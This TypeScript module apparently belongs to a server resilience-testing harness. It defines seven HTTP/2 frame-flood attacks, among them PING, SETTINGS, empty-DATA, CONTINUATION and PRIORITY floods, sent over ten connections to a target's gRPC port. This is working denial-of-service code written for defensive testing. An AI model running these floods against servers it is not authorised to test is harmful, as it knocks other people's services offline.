/** Frames that cost the sender little: control frames, empty data, headers without an end. */
import {
  callHeaders,
  END_HEADERS,
  FRAME,
  headerBlock,
  http2Frame,
  settings,
} from '../../tools/network/http2-frames.ts';
import { HEALTH } from '../requests.ts';
import type { Attack } from '../scenario.ts';
import { attackInLanes, flood } from '../wire.ts';

const CONNECTIONS = 10;
const AT_ONCE = 500;
const INITIAL_WINDOW_SIZE = 4;
const PIECE_BYTES = 8_192;

export const frameFloods: readonly Attack[] = [
  floodOf('ping-flood', 'PING frames whose answers are not read', {
    reads: false,
    frame: () => http2Frame(FRAME.PING, 0, 0, Buffer.alloc(8)),
  }),
  floodOf('settings-flood', 'SETTINGS frames whose acknowledgements are not read', {
    reads: false,
    frame: (number) => http2Frame(FRAME.SETTINGS, 0, 0, settings({ [INITIAL_WINDOW_SIZE]: 65_535 + (number % 2) })),
  }),
  floodOf('window-updates', 'WINDOW_UPDATE frames of one byte', {
    first: http2Frame(FRAME.HEADERS, END_HEADERS, 1, callHeaders(HEALTH)),
    frame: (number) => http2Frame(FRAME.WINDOW_UPDATE, 0, number % 2, Buffer.of(0, 0, 0, 1)),
  }),
  floodOf('empty-data', 'DATA frames without data', {
    first: http2Frame(FRAME.HEADERS, END_HEADERS, 1, callHeaders(HEALTH)),
    frame: () => http2Frame(FRAME.DATA, 0, 1),
  }),
  floodOf('continuation-flood', 'a header block that never ends, by CONTINUATION frames', {
    first: http2Frame(FRAME.HEADERS, 0, 1, callHeaders(HEALTH)),
    frame: (number) => http2Frame(FRAME.CONTINUATION, 0, 1, headerBlock({ [`x-${number}`]: 'x'.repeat(100) })),
  }),
  floodOf('empty-continuations', 'CONTINUATION frames without content', {
    first: http2Frame(FRAME.HEADERS, 0, 1, callHeaders(HEALTH)),
    frame: () => http2Frame(FRAME.CONTINUATION, 0, 1),
  }),
  floodOf('priority-flood', 'PRIORITY frames for streams that are not open', {
    frame: (number) => http2Frame(FRAME.PRIORITY, 0, (number % 10_000) * 2 + 1, Buffer.of(0, 0, 0, 0, 16)),
  }),
];

interface FloodPlan {
  /** Written once. */
  readonly first?: Buffer;
  readonly frame: (number: number) => Buffer;
  readonly reads?: boolean;
}

function floodOf(name: string, what: string, { first = Buffer.alloc(0), frame, reads = true }: FloodPlan): Attack {
  return {
    name,
    title: `${what}, on ${CONNECTIONS} connections`,
    kind: 'strangers',
    run: (target, tally) =>
      attackInLanes(target, tally, CONNECTIONS, async (lanes, index) => {
        const wire = await lanes.open({ port: target.grpcPort, address: index, reads });
        if (wire === null) return null;
        await wire.write(first);
        let number = 0;
        await flood(lanes, wire, () => {
          const frames: Buffer[] = [];
          let bytes = 0;
          for (let count = 0; count < AT_ONCE && bytes < PIECE_BYTES; count += 1) {
            const next = frame(number);
            number += 1;
            bytes += next.length;
            frames.push(next);
          }
          return { bytes: Buffer.concat(frames), count: frames.length };
        });
        return wire;
      }),
  };
}
